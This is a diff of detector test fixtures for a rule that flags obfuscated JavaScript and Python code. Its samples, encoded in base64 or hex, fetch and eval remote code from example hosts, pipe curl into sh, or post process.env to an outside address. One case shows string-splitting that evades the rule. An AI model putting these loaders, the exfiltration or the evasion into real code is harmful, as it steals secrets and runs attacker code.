@@ -1,72 +1,80 @@
 import type { Examples } from "@doorward/core";
 
-/** Hidden programs that act, and hidden programs that do not. */
+/** Hidden code that starts, fetches or sends, and hidden code that does no such thing. */
 export const examples: Examples = {
   hits: [
     {
-      name: "decoded text that starts a program",
+      name: "a decoded loader",
       files: {
-        "package.json":
-          '{\n  "name": "shop",\n  "version": "1.0.0",\n  "scripts": {\n    "start": "node a.js"\n  }\n}\n',
-        "a.js":
-          'eval(Buffer.from("cmVxdWlyZSgiY2hpbGRfcHJvY2VzcyIpLmV4ZWMoImN1cmwgLXMgaHR0cHM6Ly9uZXh0LmV4YW1wbGUvYSB8IHNoIik=", "base64").toString());\n',
+        "package.json": `{ "name": "shop", "version": "1.0.0", "main": "server.js", "scripts": { "start": "node server.js" } }
+`,
+        "server.js": `eval(atob("ZmV0Y2goImh0dHBzOi8vYXBpLmV4YW1wbGUvY2hlY2siKS50aGVuKChyKSA9PiByLnRleHQoKSkudGhlbigodCkgPT4gZXZhbCh0KSk7"));
+`,
       },
     },
     {
-      name: "decoded text that fetches and runs more",
+      name: "a decoded command in the installer of a Python package",
       files: {
-        "package.json":
-          '{\n  "name": "shop",\n  "version": "1.0.0",\n  "scripts": {\n    "start": "node a.js"\n  }\n}\n',
-        "a.js":
-          'eval(atob("ZmV0Y2goJ2h0dHBzOi8vY2RuLmV4YW1wbGUvYWdlbnQuanMnKS50aGVuKChhKSA9PiBhLnRleHQoKSkudGhlbigodCkgPT4gZXZhbCh0KSk="));\n',
+        "setup.py": `from setuptools import setup
+import base64
+exec(base64.b64decode("aW1wb3J0IG9zCm9zLnN5c3RlbSgiZWNobyBpbmVydCIp"))
+setup(name="shop", version="1.0")
+`,
       },
     },
     {
-      name: "decoded text of Python that runs more",
+      name: "decoded code that sends the environment away",
       files: {
-        "main.py":
-          'import base64\n\nexec(base64.b64decode("aW1wb3J0IHVybGxpYi5yZXF1ZXN0OyBleGVjKHVybGxpYi5yZXF1ZXN0LnVybG9wZW4oImh0dHBzOi8vbmV4dC5leGFtcGxlL2EiKS5yZWFkKCkp"))\n',
+        "package.json": `{ "name": "shop", "version": "1.0.0", "main": "server.js", "scripts": { "start": "node server.js" } }
+`,
+        "server.js": `new Function("require", "process", Buffer.from("7265717569726528226178696f7322292e706f7374282268747470733a2f2f6170692e6578616d706c652f636865636b222c207b202e2e2e70726f636573732e656e76207d293b", "hex").toString())(require, process);
+`,
       },
     },
   ],
   misses: [
     {
-      name: "decoded text that prints",
-      why: "It starts nothing and asks nobody.",
+      name: "decoded code that prints a line",
+      why: "It is hidden, which another rule says, and it does nothing to the computer.",
       files: {
-        "package.json":
-          '{\n  "name": "shop",\n  "version": "1.0.0",\n  "scripts": {\n    "start": "node a.js"\n  }\n}\n',
-        "a.js": 'eval(Buffer.from("Y29uc29sZS5sb2coMSArIDEpIC8vIGEgbG9uZ2VyIHRleHQ=", "base64").toString());\n',
+        "package.json": `{ "name": "shop", "version": "1.0.0", "main": "server.js", "scripts": { "start": "node server.js" } }
+`,
+        "server.js": `eval(Buffer.from("Y29uc29sZS5sb2coImluZXJ0LCBidXQgaGlkZGVuIGZyb20gdGhlIGV5ZSIp", "base64").toString());
+`,
       },
     },
     {
-      name: "plain text that starts a program",
-      why: "It can be read where it stands.",
+      name: "code in plain text that starts a program",
+      why: "The text can be read where it stands.",
       files: {
-        "package.json":
-          '{\n  "name": "shop",\n  "version": "1.0.0",\n  "scripts": {\n    "start": "node a.js"\n  }\n}\n',
-        "a.js": 'eval("require(\\"child_process\\").exec(\\"git status\\")");\n',
+        "package.json": `{ "name": "shop", "version": "1.0.0", "main": "server.js", "scripts": { "start": "node server.js" } }
+`,
+        "server.js": `eval('require("child_process").execSync("git --version")');
+`,
       },
     },
     {
-      name: "decoded text that is sent",
-      why: "It is sent, not run.",
+      name: "a decoded configuration with an address",
+      why: "The configuration is read as data.",
       files: {
-        "package.json":
-          '{\n  "name": "shop",\n  "version": "1.0.0",\n  "scripts": {\n    "start": "node a.js"\n  }\n}\n',
-        "a.js":
-          'fetch("https://data.example/", { method: "POST", body: atob("YSBsb25nZXIgdGV4dCwgYSBsb25nZXIgdGV4dA==") });\n',
+        "package.json": `{ "name": "shop", "version": "1.0.0", "main": "server.js", "scripts": { "start": "node server.js" } }
+`,
+        "server.js": `const settings = JSON.parse(Buffer.from("eyJ1cmwiOiJodHRwczovL2FwaS5leGFtcGxlIn0=", "base64").toString());
+fetch(settings.url).then((answer) => console.log(answer.status));
+`,
       },
     },
   ],
   evasions: [
     {
-      name: "decoded text that waits for an order",
+      name: "hidden code that is only put together from pieces of plain text",
       caughtBy: "nothing",
       files: {
-        "package.json":
-          '{\n  "name": "shop",\n  "version": "1.0.0",\n  "scripts": {\n    "start": "node a.js"\n  }\n}\n',
-        "a.js": 'console.log("waits");\n',
+        "package.json": `{ "name": "shop", "version": "1.0.0", "main": "server.js", "scripts": { "start": "node server.js" } }
+`,
+        "server.js": `const parts = ["require('child", "_process').exec", "('echo inert')"];
+eval(parts.join(""));
+`,
       },
     },
   ],
